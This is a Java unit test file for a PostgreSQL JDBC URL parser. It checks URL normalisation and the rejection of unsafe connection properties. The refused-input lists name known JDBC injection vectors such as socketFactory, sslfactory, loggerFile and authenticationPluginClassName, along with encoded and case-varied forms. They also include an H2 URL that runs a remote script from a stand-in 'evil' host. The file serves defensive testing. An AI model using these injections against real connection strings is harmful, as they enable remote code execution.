/* SPDX-License-Identifier: Apache-2.0 */
package io.levada.connect.jdbc.dialect.postgres;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class PostgresUrlTest {

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db:5432/shop, jdbc:postgresql://db:5432/shop",
        "jdbc:postgresql://db/shop, jdbc:postgresql://db/shop",
        "jdbc:postgresql://db, jdbc:postgresql://db/",
        "jdbc:postgresql:shop, jdbc:postgresql://localhost/shop",
        "'jdbc:postgresql://a:1,b:2/shop', 'jdbc:postgresql://a:1,b:2/shop'",
        "jdbc:postgresql://[::1]:5432/shop, jdbc:postgresql://[::1]:5432/shop",
        "jdbc:postgresql://db/shop?sslmode=require&password=secret, jdbc:postgresql://db/shop",
    })
    void urlIsTakenApartAndShownWithoutProperties(String url, String shown) {
        assertThat(PostgresUrl.parse(url)).hasToString(shown);
    }

    @Test
    void allowedPropertiesAreDecoded() {
        assertThat(PostgresUrl.parse("jdbc:postgresql://db/x?sslmode=verify-full&ApplicationName=a%20b&ssl")
                        .properties())
                .isEqualTo(Map.of("sslmode", "verify-full", "ApplicationName", "a b", "ssl", "true"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "socketFactory=x",
                "socketFactoryArg=x",
                "sslfactory=x",
                "sslfactoryarg=x",
                "sslhostnameverifier=x",
                "sslpasswordcallback=x",
                "authenticationPluginClassName=x",
                "xmlFactoryFactory=x",
                "loggerFile=/tmp/x",
                "loggerLevel=TRACE",
                "jaasApplicationName=x",
                "service=x",
                "stringtype=varchar",
                "socketFactor%79=x",
                "SOCKETFACTORY=x",
                "sslmode=require&socketFactory=x",
            })
    void propertiesThatAreNotKnownToBeSafeAreRefused(String property) {
        assertThatThrownBy(() -> PostgresUrl.parse("jdbc:postgresql://db/x?" + property))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("not on the list of safe ones");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:postgresql://db/x;socketFactory=y",
                "jdbc:postgresql://db/x#?socketFactory=y",
                "jdbc:postgresql://db:notaport/x",
                "jdbc:postgresql:///x",
                "jdbc:postgresql://user:secret@db/x",
                "postgresql://db/x",
                "",
            })
    void anythingElseIsRefusedWithoutShowingIt(String url) {
        assertThatThrownBy(() -> PostgresUrl.parse(url))
                .isInstanceOf(IllegalArgumentException.class)
                .message()
                .doesNotContain("secret", "evil");
    }
}
